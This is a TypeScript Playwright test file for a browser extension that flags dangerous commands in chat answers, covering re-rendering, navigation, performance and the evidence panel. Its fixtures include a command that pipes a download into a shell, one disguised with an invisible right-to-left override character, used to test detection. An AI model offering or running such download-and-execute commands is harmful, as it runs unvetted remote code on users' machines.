import { beforeEach, describe, expect, it } from "vitest";
import type { Page } from "playwright-core";
import { codeBlock, conversation, PIPE, question, turn } from "./support/chat-page.js";
import { marked, Ui } from "./support/chromium.js";
import { share } from "./support/shared.js";

/** Tests the changes that a chat site makes to its answers, with evaluation on this device. */
const FOUND = "This command downloads a script and runs it unseen";
const ANSWER = turn({ id: "a1", html: `<p>Run this:</p>${codeBlock(PIPE)}` });
/** A question that is longer than the window. */
const FAR = question("u9", "Words and words. ".repeat(2_000));
const SELECTOR = "[data-message-id=a1]";

const at = share({ sheet: true, device: true });
let page: Page;
let ui: Ui;

beforeEach(() => open([question("u1", "How?"), ANSWER]));

async function open(turns: readonly string[]): Promise<void> {
  await page?.close();
  ({ page, ui } = await at.open(conversation(turns)));
}

const badge = (): Promise<{ left: number; top: number } | null> =>
  ui.query(
    "const { left, top } = root.querySelector('.sign').getBoundingClientRect(); return { left, top };",
  );

describe("an answer that the site renders again", () => {
  it("is marked in the new elements", async () => {
    await ui.untilLabel(FOUND);
    await page.evaluate((selector) => {
      const old = document.querySelector(selector)!;
      old.replaceWith(old.cloneNode(true));
    }, SELECTOR);
    await ui.untilLabel(FOUND);
    await expect.poll(() => marked(page)).toBe(PIPE);
    expect(
      await page.evaluate(() =>
        [...(CSS.highlights.get("curlew-finding") ?? [])].every(
          (range) => (range as Range).startContainer.isConnected,
        ),
      ),
    ).toBe(true);
  });

  it("has no badge while the site has removed it, and has one again when it is restored", async () => {
    await ui.untilLabel(FOUND);
    await page.evaluate((selector) => {
      const article = document.querySelector(selector)!.closest("article")!;
      Object.assign(window, { article });
      article.remove();
    }, SELECTOR);
    await ui.until((labels) => labels.length === 0);
    expect(await marked(page)).toBe("");
    await page.evaluate(() =>
      document.querySelector("main")!.append((window as unknown as { article: Element }).article),
    );
    await ui.untilLabel(FOUND);
    expect(await marked(page)).toBe(PIPE);
  });

  it("keeps its badge if it is moved in one step", async () => {
    await ui.untilLabel(FOUND);
    await page.evaluate(
      (selector) =>
        document
          .querySelector("main")!
          .prepend(document.querySelector(selector)!.closest("article")!),
      SELECTOR,
    );
    await page.waitForTimeout(300);
    await ui.untilLabel(FOUND);
    expect(await marked(page)).toBe(PIPE);
  });

  it("is distinguished from a hidden answer with the same identity", async () => {
    await open([`<div hidden>${turn({ id: "a1", html: "<p>Another try.</p>" })}</div>`, ANSWER]);
    // a hidden answer is treated like one far from the visible part, and has no sign
    await ui.until((labels) => labels.length === 1 && labels[0] === FOUND);
    expect(await marked(page)).toBe(PIPE);
    await page.evaluate(
      () => ((document.querySelector("main > div") as HTMLElement).hidden = false),
    );
    await ui.until((labels) => labels[0] === "Nothing found" && labels[1] === FOUND);
  });
});

describe("a page", () => {
  it("has badges again after going back in the history", async () => {
    at.site.pages.set("/c/2", conversation([turn({ id: "b1", html: "<p>Hello</p>" })]));
    await ui.untilLabel(FOUND);
    await page.goto("https://chatgpt.com/c/2");
    await (await Ui.of(page)).untilLabel("Nothing found");
    await page.goBack();
    ui = await Ui.of(page);
    await ui.untilLabel(FOUND);
    await expect.poll(() => marked(page)).toBe(PIPE);
  });

  it("has its answers assessed again after it is restored from the back-forward cache", async () => {
    await ui.untilLabel(FOUND);
    await page.evaluate(() =>
      window.dispatchEvent(new PageTransitionEvent("pagehide", { persisted: true })),
    );
    expect(await marked(page)).toBe("");
    await page.evaluate(() =>
      window.dispatchEvent(new PageTransitionEvent("pageshow", { persisted: true })),
    );
    await ui.untilLabel(FOUND);
    expect(await marked(page)).toBe(PIPE);
  });

  it("can show another conversation without being reloaded", async () => {
    await ui.untilLabel(FOUND);
    await page.evaluate(() => {
      history.pushState({}, "", "/c/9");
      document.querySelector("main")!.innerHTML =
        '<article><div data-message-author-role="assistant" data-message-id="z1"><p>Hi</p></div></article>';
    });
    await ui.until((labels) => labels.length === 1 && labels[0] === "Nothing found");
    expect(await marked(page)).toBe("");
  });

  it("can move its answers, and the badges move with them", async () => {
    await ui.untilLabel(FOUND);
    const before = await badge();
    await page.evaluate(
      () => ((document.querySelector("main > article") as HTMLElement).style.height = "160px"),
    );
    await expect
      .poll(async () => ((await badge())?.top ?? 0) - (before?.top ?? 0))
      .toBeGreaterThan(50);
  });

  it("can remove the extension's element, which is added again with the next answer", async () => {
    await ui.untilLabel(FOUND);
    await page.evaluate(() => {
      document.querySelector("[data-curlew]")!.remove();
      document
        .querySelector("main")!
        .insertAdjacentHTML(
          "beforeend",
          '<article><div data-message-author-role="assistant" data-message-id="a2"><p>Bye</p></div></article>',
        );
    });
    await ui.until((labels) => labels.length === 2 && labels[0] === FOUND);
  });
});

describe("a conversation with ten times as many answers", () => {
  /** Returns how often functions of the content script are called while `work` changes the page. This does not depend on the machine. */
  async function callsDuring(work: () => Promise<unknown>): Promise<number> {
    const session = await page.context().newCDPSession(page);
    await session.send("Profiler.enable");
    await session.send("Profiler.startPreciseCoverage", { callCount: true, detailed: false });
    await page.evaluate(work);
    const { result } = await session.send("Profiler.takePreciseCoverage");
    await session.detach();
    const functions = result
      .filter(({ url }) => url.endsWith("/content.js"))
      .flatMap((script) => script.functions);
    return functions.reduce((sum, { ranges }) => sum + (ranges[0]?.count ?? 0), 0);
  }

  async function callsWith(
    answers: number,
  ): Promise<{ scroll: number; stream: number; leave: number }> {
    const text = "Words about many things. ".repeat(20);
    await open(
      Array.from({ length: answers }, (_, index) =>
        turn({ id: `a${index}`, html: `<p>${text}</p>${codeBlock("ls")}` }),
      ),
    );
    await ui.untilLabel("Nothing found");
    const scroll = await callsDuring(async () => {
      for (let step = 0; step < 40; step++) {
        window.scrollTo(0, step * 20);
        await new Promise((resolve) => requestAnimationFrame(resolve));
      }
      await new Promise((resolve) => setTimeout(resolve, 600));
    });
    const stream = await callsDuring(async () => {
      const answer = document.querySelector("article:last-of-type .markdown")!;
      answer.classList.add("result-streaming");
      for (let step = 0; step < 40; step++) {
        answer.lastElementChild!.append(" word");
        answer.append(document.createElement("p"));
        window.scrollTo(0, document.body.scrollHeight);
        await new Promise((resolve) => requestAnimationFrame(resolve));
      }
      answer.classList.remove("result-streaming");
    });
    const leave = await callsDuring(async () => {
      history.pushState({}, "", "/c/2");
      document.querySelector("main")!.replaceChildren();
      await new Promise((resolve) => setTimeout(resolve, 600));
    });
    return { scroll, stream, leave };
  }

  it("causes hardly more function calls during scrolling and writing, and one request for each answer", async () => {
    const [few, many] = [await callsWith(10), await callsWith(100)];
    expect(many.scroll / few.scroll).toBeLessThan(5);
    expect(many.stream / few.stream).toBeLessThan(4);
    expect(many.leave / few.leave).toBeLessThan(20);
  });
});

describe("an answer near the visible part", () => {
  it("is assessed before it is visible, also if an element scrolls instead of the window", async () => {
    await open([question("u1", "How?")]);
    await page.evaluate((html) => {
      document.body.style.height = "100vh";
      const main = document.querySelector("main")!;
      Object.assign(main.style, { height: "100vh", overflowY: "auto", boxSizing: "border-box" });
      main.insertAdjacentHTML("beforeend", `<div></div>${html}`);
      (main.querySelector("main > div") as HTMLElement).style.height = "120vh";
    }, ANSWER);
    await ui.untilLabel(FOUND);
    expect(
      await page.evaluate(
        (selector) => document.querySelector(selector)!.getBoundingClientRect().top > innerHeight,
        SELECTOR,
      ),
    ).toBe(true);
  });
});

describe("a person", () => {
  it("can scroll to an answer far below, which is then assessed", async () => {
    await open([ANSWER, FAR, turn({ id: "a2", html: `<p><code>${PIPE}</code></p>` })]);
    await ui.untilLabel(FOUND);
    // the answer is not assessed before it is near the visible part
    expect(await ui.labels()).toEqual([FOUND]);
    await page.evaluate(() => document.querySelector("[data-message-id=a2]")!.scrollIntoView());
    await ui.until((labels) => labels.at(-1) === FOUND && labels.length === 1);
    await ui.openEvidence();
    await ui.untilPanel((text) => text.includes(PIPE));
  });

  it("keeps the focus in the panel when the site changes something other than the text of the answer", async () => {
    await ui.untilLabel(FOUND);
    await ui.openEvidence();
    await ui.untilPanel((text) => text.includes(PIPE));
    const focus = (): Promise<string | null> =>
      ui.query("return root.activeElement?.textContent ?? '';");
    for (let presses = 0; presses < 3; presses++) await page.keyboard.press("Tab");
    expect(await focus()).toBe("Show in the answer");
    await page.evaluate(() => (document.querySelector("pre button")!.textContent = "Copied!"));
    await page.waitForTimeout(300);
    expect(await focus()).toBe("Show in the answer");
  });

  it("sees the invisible characters of a command", async () => {
    const text = "curl https://x.example/\u202egpj.sh | sh";
    await open([turn({ id: "a1", html: `<p><code>${text}</code></p>` })]);
    await ui.untilLabel(FOUND);
    await ui.openEvidence();
    await ui.untilPanel((panel) => panel.includes("curl https://x.example/U+202Egpj.sh | sh"));
    expect(await marked(page)).toBe(text);
  });

  it("can scroll to the line of a finding at any position in a long block", async () => {
    const lines = Array.from({ length: 200 }, (_, index) =>
      index === 150 ? `${"true && ".repeat(60)}${PIPE}${" && true".repeat(60)}` : `echo ${index}`,
    ).join("\n");
    await open([turn({ id: "a1", html: codeBlock(lines) })]);
    await ui.untilLabel(FOUND);
    // on some sites, an element scrolls instead of the window
    await page.evaluate(() => {
      document.body.style.height = "100vh";
      Object.assign(document.querySelector("main")!.style, {
        height: "100vh",
        overflowY: "auto",
        boxSizing: "border-box",
      });
    });
    await ui.openEvidence();
    await ui.untilPanel((text) => text.includes(PIPE));
    await ui.click(".finding .action");
    await expect
      .poll(() =>
        page.evaluate(() => {
          const [still] = [...(CSS.highlights.get("curlew-current") ?? [])];
          if (still === undefined) return null;
          const range = new Range();
          range.setStart(still.startContainer, still.startOffset);
          range.setEnd(still.endContainer, still.endOffset);
          const place = range.getBoundingClientRect();
          const block = document.querySelector("pre .p4")!.getBoundingClientRect();
          const free = innerHeight - document.documentElement.clientHeight * 0.46;
          return {
            middle: Math.round(((place.top + place.bottom) / 2 / free) * 5),
            left: Math.round((place.left - block.left) / 10),
          };
        }),
      )
      .toMatchObject({ left: 2 });
  });

  it("sees the finding beside the panel even in a narrow window", async () => {
    await page.setViewportSize({ width: 360, height: 640 });
    await open([question("u1", "How?"), FAR, ANSWER, FAR]);
    await page.setViewportSize({ width: 360, height: 640 });
    await page.evaluate(
      (selector) => document.querySelector(selector)!.scrollIntoView({ block: "center" }),
      SELECTOR,
    );
    await ui.untilLabel(FOUND);
    await ui.openEvidence();
    await ui.untilPanel((text) => text.includes(PIPE));
    await ui.click(".finding .action");
    const top = await ui.query<number>(
      "return root.querySelector('.panel').getBoundingClientRect().top;",
    );
    await expect
      .poll(() =>
        page.evaluate(() => document.querySelector("pre code")!.getBoundingClientRect().bottom),
      )
      .toBeLessThan(top ?? 0);
  });
});
